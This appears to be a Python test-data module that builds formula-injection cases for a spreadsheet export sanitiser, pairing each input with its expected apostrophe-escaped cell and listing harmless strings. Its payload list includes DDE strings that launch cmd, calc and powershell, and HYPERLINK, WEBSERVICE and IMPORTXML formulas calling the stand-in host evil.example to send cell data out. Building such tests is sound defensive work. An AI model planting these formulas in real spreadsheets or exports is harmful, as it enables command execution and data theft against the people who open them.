"""Texts that a spreadsheet would run, and what must stand in the cell. Written apart from the code."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Cell:
    """A text that somebody managed to write somewhere, and how its cell reads in a table of ours."""

    name: str
    text: str
    safe: str


SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "  ", "\u3000", "\u00a0", "\n", "\ufeff", " \u3000\n")
RUNS = (
    "",
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"open")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML("http://evil.example","//a")',
    "SUM(1,2)*cmd|' /C powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
    "10+20+cmd|' /C calc'!A0\n=1",
    'a","=1+1',
    "东门",
)
HARMLESS = (
    "", "0", "1-1", "a=b", "东门岗", "2026-11-29", "22:00-06:00", "'=1", '"=1"', "a\t=1", "a\n=1", ",", '"',
    '""', "\n", "；=1", "（=1）", "１＋１", "a@b.cn", "12.5", "1e5", "x" * 5_000, "\u202e=1", "\u200b=1",
)  # fmt: skip
"""No spreadsheet takes these for a formula: they stay as they are."""


def cases() -> Iterator[Cell]:
    """Yield every case."""
    for sign in SIGNS:
        for before in BEFORE:
            for run in RUNS:
                text = f"{before}{sign}{run}"
                yield Cell(f"{before!r} {sign!r} {run[:12]!r}", text, "'" + text)
    for text in HARMLESS:
        yield Cell(f"harmless {text[:12]!r}", text, text)
